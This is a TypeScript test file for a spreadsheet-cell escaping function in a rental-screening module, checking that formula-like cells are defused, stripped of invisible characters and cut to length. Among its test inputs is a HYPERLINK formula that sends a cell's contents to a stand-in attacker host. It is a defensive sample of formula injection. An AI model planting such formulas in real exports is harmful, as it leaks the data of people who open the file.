import fc from 'fast-check';

import { escapeCell, escapeCells } from '../../../nodes/RentalScreening/core/cells.ts';

test('a cell that would run as a formula gets a word in front', () => {
	const formulas = [
		...['=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', '+1+1', '-', '@SUM(A1)', "'=1+1"],
		...['+1-416-555-0100', '-12.5+1', '+14165550100=1', '＝1+1', '＋1+1', '－1', '＠SUM(A1)'],
	];
	const spaced = ['\t=1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0001=1+1', '\r\n=1+1'];
	expect(formulas.map(escapeCell)).toEqual(formulas.map((text) => `Text: ${text}`));
	expect(spaced.map(escapeCell)).toEqual(spaced.map(() => 'Text: =1+1'));
	const others = [
		...['', 'Jane', '2026-03-01', 'a=b', 'jane@example.com', '(+1)', "'Twas nice"],
		...['Text: =1+1', 'a＝b', '+14165550100', '-12.5', '+0.25'],
	];
	expect(others.map(escapeCell)).toEqual(others);
});

test('a cell has at most 32,767 characters', () => {
	expect(escapeCell('a'.repeat(32_767))).toBe('a'.repeat(32_767));
	expect(escapeCell(`=${'a'.repeat(32_767)}`)).toBe(`Text: =${'a'.repeat(32_759)}…`);
	expect(escapeCell(`${'a'.repeat(32_765)}😀bc`)).toBe(`${'a'.repeat(32_765)}…`);
});

test('a cell of any text is one line without invisible characters, and never begins like a formula', () => {
	expect(escapeCell('a\r\nb\r\v\u0085c\u2028\u2029=1 \0d')).toBe('a b c =1 d');
	const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=', '-12.5\n=');
	const anyText = fc.string({ unit: fc.nat(0xffff).map((code) => String.fromCharCode(code)) });
	fc.assert(
		fc.property(anyText, starts, (rest, start) => {
			const cell = escapeCell(start + rest);
			expect(cell).not.toMatch(/[\n\v\f\r\p{C}\u2028\u2029]/u);
			if (/^[\s']*[=+\-@]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
		}),
	);
});

test('all texts of an answer are safe cells but its IDs, which later nodes send back', () => {
	const given = { id: '=1', userId: '+abC/9==', note: '=1+1', score: -5, list: ['=1'], none: null };
	expect(escapeCells(given)).toEqual({ ...given, note: 'Text: =1+1' });
});
